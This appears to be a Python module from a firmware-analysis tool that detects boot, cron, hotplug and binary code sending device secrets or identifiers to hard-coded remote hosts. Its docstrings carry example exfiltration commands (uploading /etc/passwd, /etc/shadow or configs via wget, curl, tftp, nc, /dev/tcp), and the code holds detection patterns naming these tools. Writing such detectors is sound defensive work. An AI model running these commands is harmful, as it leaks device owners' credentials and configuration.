"""FP-EXFIL: boot, cron and hotplug jobs, and programs, that send device data to a
hard-coded remote address.

A job exfiltrates when one command both names a fixed destination (a URL, IP or host
written in the image, not a variable) and carries device data to it: a file of the device
uploaded (`wget --post-file=/etc/passwd`, `curl -F f=@/etc/config/network`,
`tftp -p -l /etc/shadow HOST`, `cat /etc/passwd | nc HOST 80`, `> /dev/tcp/HOST/PORT`) or
identifiers put into the request (`?mac=$(cat /sys/class/net/eth0/address)`, `nvram show`,
serial numbers, IMEI). What is sent is followed back through the script: the variables it
uses (`P="mac=$MAC"`, `MAC=$(cat …)`), the files it uploads that the job wrote first
(`ifconfig > /tmp/n; curl -F n=@/tmp/n …`), and a host named by a variable whose one value
is a literal (`SERVER=collect.example.net` in a sourced config file, `H="$A.$B"`). A
download (`wget http://update…/fw.bin`) or an NTP query sends nothing of the device and is
not reported; neither is a destination on the LAN, loopback or link-local (it reaches
whatever host each owner's network has there, never a fixed collector) nor a host read
from the device's own configuration (`$(nvram get update_server)`).

Scripts are read through the boot chain (`firmproof.device.bootchain`): what init, cron and inetd
run, plus the hotplug and PPP event scripts. Programs are read as strings: a command line
compiled into a program is checked like a script line, and a URL whose query names device
data (`mac=%s`, `imei=%s`) counts when the program can send (connect/send, libcurl, or
system/popen of a command).
"""

from __future__ import annotations

import ipaddress
import posixpath
import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import numpy as np
import yara_x

from firmproof.analyzers.base import Analyzer, rule
from firmproof.device.bootchain import Step, boot_chain, script_steps
from firmproof.device.parsers import shell
from firmproof.fs import examined
from firmproof.fs.filetype import ELF, SCRIPT, TEXT
from firmproof.fs.rootfs import RootFS
from firmproof.model import Category, Finding, Severity

_CWE = "https://cwe.mitre.org/data/definitions/{}.html"
MAX_ELF_BYTES = 32 * 1024 * 1024

SCRIPT_EXFIL = rule(
    "FP-EXFIL-001", Category.EXFILTRATION, Severity.CRITICAL,
    title="boot/cron/hotplug job sends device data to a hard-coded address",
    why="""A command run at boot, from cron or on a hotplug/PPP event uploads device data
        (account files, configuration, NVRAM, MAC address, serial number, IMEI) to a destination
        written into the image. Nobody asked the owner: the vendor or whoever planted the line
        collects what it needs to log in or to track the device. `details.host` is the
        destination, `details.data` what is sent. LAN and loopback destinations and hosts read
        from the device's configuration are not reported.""",
    confirm="""Read the quoted line and the chain that runs it (`details.chain`); follow the
        variables it uses to their assignments. On a device or in an emulator, capture the
        traffic to `details.host` at boot.""",
    references=["https://attack.mitre.org/techniques/T1041/", "https://attack.mitre.org/techniques/T1020/",
                _CWE.format(359)],
)
BINARY_EXFIL = rule(
    "FP-EXFIL-002", Category.EXFILTRATION, Severity.HIGH,
    title="program sends device data to a hard-coded address",
    why="""A program holds a request to a fixed destination that carries device data: a command
        line it runs (`wget --post-file=/etc/passwd http://…`) or a URL whose query names device
        identifiers or secrets (`?mac=%s&serial=%s`) while the program can send (connect/send,
        libcurl, or system/popen). A URL that carries only model and version (an update check)
        or an NTP server does not match.""",
    confirm="""`strings -a -t d <program> | grep -F '<details.string>'` gives the evidence offset;
        in a disassembler, follow its reference to the sprintf/snprintf that fills it and the
        call that sends it. Capture the traffic of the program in an emulator.""",
    references=["https://attack.mitre.org/techniques/T1041/", _CWE.format(359)],
)

NET_TOOLS = frozenset({"wget", "curl", "nc", "netcat", "ncat", "nc.traditional", "nc.openbsd",
                       "tftp", "ftpput", "scp", "socat", "uclient-fetch"})
_DEVICE_DATA = re.compile(
    r"/etc/(?:passwd|shadow|config/\S+|\S+\.conf)\b|/etc/config\b"
    r"|\bnvram\s+(?:show|get|dump|getall)|\bfw_printenv\b|\buci\s+(?:show|export|get)\b"
    r"|/dev/mtd|/sys/class/net/\S*/address|\bifconfig\b|\bip\s+link\b|/proc/net/arp"
    r"|\bgetprop\s+(?:ro\.serialno|persist\.sys|ril\.)|\bat\+cg(?:sn|mi)|\bimei\b|\bimsi\b|\biccid\b"
    r"|\bserial(?:no|_?num(?:ber)?)?\b|\bhwaddr\b|\bmac_?addr\b|\bwpa_psk\b|\bwifi_key\b"
    r"|/tmp/\S*(?:passw|\.cfg|\.conf)",
    re.IGNORECASE)
_DEVICE_PARAM = re.compile(
    r"[?&](mac|macaddr|mac_addr|hwaddr|sn|serial|serialno|imei|imsi|iccid|pass|passwd|password|"
    r"pwd|psk|wpa_key|wifi_key|key|user|username|login|cfg|config)=(?:%s|%\d*[sdx]|\$\{?\w+|\$\()",
    re.IGNORECASE)
_URL = re.compile(r"(?:https?|ftp|tftp)://([^/\s:?\"'#]+)(?::\d+)?", re.IGNORECASE)
_HOST = re.compile(r"^(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})$")
_NOT_REMOTE = frozenset({"localhost", "example.com", "example.org", "example.net"})
_ANCHOR_BYTES = (b"://", b"wget ", b"curl ", b"tftp ", b"ftpput ", b"nc ")
_SENDER = re.compile(rb"(?m)^[ \t]*(?:[^#\s][^#\n]*?)?(?<![\w.-])"
                     rb"(?:wget|curl|nc|netcat|ncat|tftp|ftpput|scp|socat|uclient-fetch)[ \t]"
                     rb"|/dev/(?:tcp|udp)/")
MAX_SCRIPT_BYTES = 16 * 1024 * 1024
_PRINTABLE = np.zeros(256, dtype=np.bool_)
_PRINTABLE[0x20:0x7F] = True
_SEND_IMPORTS = (b"\0connect\0", b"\0send\0", b"\0sendto\0", b"curl_easy_perform\0",
                 b"\0system\0", b"\0popen\0")


@dataclass(frozen=True)
class Upload:
    tool: str
    host: str
    data: tuple[str, ...]     # what of the device is sent


def _host_of(word: str, variables: Mapping[str, list[str]] | None = None) -> str | None:
    """The literal remote host a word names, or None (a variable whose value is not a
    literal, a local path, a LAN or loopback address)."""
    if variables and "$" in word:
        word = _literal_vars(word, variables)
    m = _URL.search(word)
    host = m.group(1) if m else word.split("@")[-1].split(":")[0]
    if not host or "$" in host or "%" in host or "`" in host or not _HOST.match(host):
        return None
    if host.lower() in _NOT_REMOTE or _is_private(host):
        return None
    return host


_VAR = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")


def _literal_vars(word: str, variables: Mapping[str, list[str]], depth: int = 0) -> str:
    """`word` with each variable replaced by its value where the scripts give it exactly one
    value, and that value is a literal (`SERVER=collect.example.net`, `H="$A.$B"` of
    literals); a value read at run time (`$(nvram get server)`, `$1`) stays as written."""
    if depth > 3:
        return word

    def one(m: re.Match[str]) -> str:
        values = set(variables.get(m.group(1) or m.group(2), []))
        if len(values) != 1:
            return m.group(0)
        value = _unquote(next(iter(values)))
        if "$" in value:
            value = _literal_vars(value, variables, depth + 1)
        return m.group(0) if any(c in value for c in "$`()<>|;& \t") else value

    return _VAR.sub(one, word)


def _unquote(value: str) -> str:
    if len(value) >= 2 and value[0] == value[-1] and value[0] in "'\"":
        return value[1:-1]
    return value


_LAN = tuple(ipaddress.ip_network(n) for n in (
    "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "127.0.0.0/8",
    "169.254.0.0/16", "fc00::/7", "fe80::/10", "::1/128"))


def _is_private(host: str) -> bool:
    """A LAN, carrier-NAT, loopback or link-local address, or a local host name."""
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return host.endswith((".lan", ".local", ".home", ".localdomain"))
    return any(address in net for net in _LAN)


def _expand_vars(text: str, variables: Mapping[str, list[str]],
                 written: Mapping[str, list[str]] | None = None, depth: int = 0) -> str:
    """`text` followed by the assignments of the variables it uses and the commands that
    wrote the files it names (three levels), so that `?mac=$MAC` shows where MAC comes from
    and `-F n=@/tmp/n` what went into /tmp/n."""
    if depth > 3:
        return text
    extra = []
    for name in re.findall(r"\$\{?([A-Za-z_]\w*)", text):
        for value in variables.get(name, []):
            extra.append(_expand_vars(value, variables, written, depth + 1))
    for path, producers in (written or {}).items():
        if path in text and re.search(r"(?<![\w./-])" + re.escape(path) + r"(?![\w./-])", text):
            for producer in producers:
                extra.append(_expand_vars(producer, variables, written, depth + 1))
    return " ".join([text, *extra])


def _data_of(text: str) -> list[str]:
    return sorted({m.group(0) for m in _DEVICE_DATA.finditer(text)})


def upload_of(argv: tuple[str, ...], pipeline: Iterable[tuple[str, ...]],
              redirects: Iterable[tuple[str, str]], variables: Mapping[str, list[str]],
              written: Mapping[str, list[str]] | None = None) -> Upload | None:
    """What one command sends where, if it sends device data to a literal remote host.
    `variables`: the assignments of the scripts; `written`: the files they write, each with
    the commands that write it."""
    if not argv:
        return None
    tool = posixpath.basename(argv[0])
    args = list(argv[1:])
    sent: list[str] = []          # text that ends up in the request
    params: list[str] = []        # query parameters naming device data (`mac=$MAC`)
    host: str | None = None
    redirect_in = [t for op, t in redirects if op.endswith("<") and not op.endswith("<<")]
    producers = [" ".join(p) for p in pipeline if p and p != argv]
    dev_tcp = next((t for op, t in redirects if t.startswith(("/dev/tcp/", "/dev/udp/"))), None)
    if dev_tcp is not None:
        host = _host_of(dev_tcp.split("/")[3], variables) if len(dev_tcp.split("/")) > 3 else None
        sent += [" ".join(argv), *producers, *redirect_in]
        tool = "/dev/tcp"
    elif tool in ("wget", "uclient-fetch", "curl"):
        for i, a in enumerate(args):
            url = _literal_vars(a, variables) if "$" in a else a
            if _URL.match(url):
                host = host or _host_of(url, variables)
                query = url.split("?", 1)[1] if "?" in url else ""
                sent.append(_URL.sub("", url, count=1))    # path and query go out
                params += [m.group(0).lstrip("?&") for m in _DEVICE_PARAM.finditer("?" + query)]
            elif a.startswith(("--post-file", "--post-data", "--body-file", "--body-data", "--data",
                               "--form", "--upload-file", "--header")):
                value = a.split("=", 1)[1] if "=" in a else (args[i + 1] if i + 1 < len(args) else "")
                sent.append(value)
            elif a in ("-d", "-F", "-T", "-H") and i + 1 < len(args):
                sent.append(args[i + 1])
        if any(a in ("-", "@-") or a.endswith("=@-") for a in args):
            sent += producers      # the request body is read from the pipe
    elif tool in ("nc", "netcat", "ncat", "nc.traditional", "nc.openbsd"):
        if any(a.startswith("-l") or a == "-e" for a in args):
            return None  # listeners and shells are FP-SVC's
        positional = [a for a in args if not a.startswith("-")]
        if positional:
            host = _host_of(positional[0], variables)
        sent += [*producers, *redirect_in]
    elif tool == "tftp":
        if "-p" not in args and not any(a.startswith("-p") for a in args):
            return None
        positional = [a for j, a in enumerate(args)
                      if not a.startswith("-") and (j == 0 or args[j - 1] not in ("-l", "-r", "-b"))]
        host = _host_of(positional[0], variables) if positional else None
        for j, a in enumerate(args):
            if a == "-l" and j + 1 < len(args):
                sent.append(args[j + 1])
    elif tool == "ftpput":
        positional = [a for j, a in enumerate(args) if not a.startswith("-")
                      and (j == 0 or args[j - 1] not in ("-u", "-p", "-P"))]
        if len(positional) >= 3:
            host = _host_of(positional[0], variables)
            sent += positional[2:]
    elif tool == "scp":
        positional = [a for a in args if not a.startswith("-")]
        if len(positional) >= 2 and ":" in positional[-1]:
            host = _host_of(positional[-1], variables)
            sent += positional[:-1]
    if host is None:
        return None
    data = sorted(set(_data_of(_expand_vars(" ".join(sent), variables, written))) | set(params))
    if not data:
        return None
    return Upload(tool, host, tuple(data))


_FILE_TARGET = re.compile(r"^/(?!dev/)[\w./+-]+$")


def _variables(fs: RootFS, paths: Iterable[str]) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
    """Every assignment's raw value (command substitutions included) of the scripts, and
    the files they write (`> FILE`, `>> FILE`, `tee FILE`) with the text of the pipeline
    that writes each."""
    variables: dict[str, list[str]] = {}
    written: dict[str, list[str]] = {}
    for path in paths:
        text = fs.text(path)
        if text is None:
            continue
        commands = shell.parse(text).commands
        pipelines: dict[int, list[shell.Command]] = {}
        for command in commands:
            pipelines.setdefault(command.pipeline, []).append(command)
            for assignment in command.assignments:
                variables.setdefault(assignment.name, []).append(assignment.value.raw)
        for command in commands:
            targets = [r.target for r in command.redirects if r.op in (">", ">>", ">|") and r.fd in ("", "1")]
            if command.words and posixpath.basename(command.words[0].value) == "tee":
                targets += [w.value for w in command.words[1:] if not w.value.startswith("-")]
            targets = [t for t in targets if _FILE_TARGET.match(t)]
            if targets:
                producer = " ".join(text[c.start:c.end] for c in pipelines[command.pipeline])
                for target in targets:
                    written.setdefault(target, []).append(producer)
    return variables, written


HOTPLUG_DIRS = ("/etc/hotplug.d", "/etc/hotplug", "/lib/mdev", "/etc/ppp/ip-up.d", "/etc/ppp/ip-down.d",
                "/etc/udhcpc", "/usr/share/udhcpc", "/etc/network/if-up.d", "/etc/udhcpc.user.d",
                "/lib/netifd/ppp.d", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/dhcp/dhclient-enter-hooks.d")
# OpenWrt's udhcpc hook (/lib/netifd/dhcp.script sources /etc/udhcpc.user) and PPP's ip-up
HOTPLUG_FILES = ("/sbin/hotplug", "/etc/ppp/ip-up", "/etc/ppp/ip-down", "/etc/mdev.conf", "/etc/udhcpc.user",
                 "/lib/netifd/dhcp.script", "/etc/ppp/ipv6-up")


class Exfiltration(Analyzer):
    family = "EXFIL"
    name = "exfiltration"
    on_device = "boot"
    reads_boot_chain = True
    rules = (SCRIPT_EXFIL, BINARY_EXFIL)

    def run(self, fs: RootFS) -> Iterator[Finding]:
        yield from self._scripts(fs)
        yield from self._programs(fs)

    # scripts -----------------------------------------------------------------------

    def _scripts(self, fs: RootFS) -> Iterator[Finding]:
        senders = self._senders(fs)
        if not senders:
            return
        chain = boot_chain(fs, orphans=senders)
        steps: list[Step] = [s for s in chain.steps if s.name in NET_TOOLS or s.redirects]
        hotplug = [e.path for folder in HOTPLUG_DIRS for e in fs.glob(f"{folder}/**")
                   if e.kind == "file" and e.path not in chain.scripts]
        hotplug += [p for p in HOTPLUG_FILES if fs.stat(p) is not None and p not in chain.scripts]
        if hotplug:
            extra = script_steps(fs, hotplug, "hotplug")
            steps += [s for s in extra.steps if s.name in NET_TOOLS or s.redirects]
            scripts = {**extra.scripts, **chain.scripts}
        else:
            scripts = chain.scripts
        if not steps:
            return
        variables, written = _variables(fs, {s.path for s in steps} | set(scripts))
        seen: set[tuple[str, int]] = set()
        for step in steps:
            pipeline = [i.argv for i in step.pipeline_invocations()]
            upload = upload_of(step.argv, pipeline, step.redirects, variables, written)
            if upload is None or (step.path, step.start) in seen:
                continue
            seen.add((step.path, step.start))
            yield SCRIPT_EXFIL.at(fs, step.path, step.start, step.end - step.start,
                                  tool=upload.tool, host=upload.host, data=list(upload.data),
                                  chain=list(step.full_chain), via=step.via)

    @staticmethod
    def _senders(fs: RootFS) -> frozenset[str]:
        """Cheap test before walking the boot chain: the scripts and configuration files of
        the image with a line that invokes a network tool. Without one no step can send
        anything; in a tree without init only they need to be walked."""
        found = set()
        for entry in fs.files(SCRIPT, TEXT):
            if entry.size > MAX_SCRIPT_BYTES or not (
                    entry.ftype == SCRIPT or entry.path.startswith(("/etc/", "/var/spool/", "/lib/"))
                    or entry.path.startswith(HOTPLUG_FILES)):
                continue
            data = fs.read(entry.path)
            if data is not None and _SENDER.search(data):
                found.add(entry.path)
        return frozenset(found)

    # programs ----------------------------------------------------------------------

    def prepare(self) -> None:
        _program_rules()

    def _programs(self, fs: RootFS) -> Iterator[Finding]:
        scanner = yara_x.Scanner(_program_rules())
        for entry in fs.files(ELF):
            if entry.size > MAX_ELF_BYTES:
                examined.skipped(fs, entry, self.name, f"a program {examined.mib(MAX_ELF_BYTES)}")
                continue
            data = fs.read(entry.path)
            if data is None:
                continue
            # one pass finds both what a sender imports and where its strings name a target
            match = next(iter(scanner.scan(data).matching_rules), None)
            if match is None:
                continue
            anchors = sorted((m.offset, m.offset + m.length) for p in match.patterns
                             if p.identifier.startswith("$a") for m in p.matches)
            for start, end in _strings_at(data, anchors):
                text = data[start:end].decode("latin-1")
                if not (_DEVICE_PARAM.search(text) or _DEVICE_DATA.search(text)):
                    continue
                upload = self._string_upload(text)
                if upload is None:
                    continue
                yield BINARY_EXFIL.at(fs, entry.path, start, end - start,
                                      tool=upload.tool, host=upload.host, data=list(upload.data),
                                      string=text[:200])
                break

    @staticmethod
    def _string_upload(text: str) -> Upload | None:
        url = _URL.search(text)
        if url and not any(t in text for t in ("wget ", "curl ", "tftp ", "ftpput ", "nc ")):
            host = _host_of(url.group(0))
            param = _DEVICE_PARAM.search(text)
            if host is None or param is None:
                return None
            return Upload("http", host, (param.group(0).lstrip("?&"),))
        for command in shell.parse(text).commands:
            argv = tuple(w.value for w in command.words)
            redirects = tuple((r.fd + r.op, r.target) for r in command.redirects)
            upload = upload_of(argv, (), redirects, {})
            if upload is not None:
                return upload
        return None


@cache
def _program_rules() -> yara_x.Rules:
    """A program that may send: it names a target (`_ANCHOR_BYTES`) and imports a way to
    send (`_SEND_IMPORTS`). One yara-x pass per program answers both and places the names."""
    anchors = " ".join(f"$a{i} = {{ {a.hex(' ')} }}" for i, a in enumerate(_ANCHOR_BYTES))
    imports = " ".join(f"$i{i} = {{ {a.hex(' ')} }}" for i, a in enumerate(_SEND_IMPORTS))
    return yara_x.compile(f"rule sender {{ strings: {anchors} {imports} "
                          f"condition: any of ($a*) and any of ($i*) }}")


def _strings_at(data: bytes, anchors: list[tuple[int, int]]) -> Iterator[tuple[int, int]]:
    """(start, end) of the printable NUL-delimited strings holding an anchor (the sorted
    (start, end) spans given), each once."""
    if not anchors:
        return
    # every byte that ends a printable run, found at once: a program has megabytes
    breaks = np.flatnonzero(~_PRINTABLE[np.frombuffer(data, dtype=np.uint8)])
    last_end = -1
    for anchor_start, anchor_end in anchors:
        if anchor_start < last_end:
            continue
        before = int(np.searchsorted(breaks, anchor_start)) - 1
        start = int(breaks[before]) + 1 if before >= 0 else 0
        after = int(np.searchsorted(breaks, anchor_end))
        end = int(breaks[after]) if after < len(breaks) else len(data)
        last_end = end
        if end - start >= 8:
            yield start, end
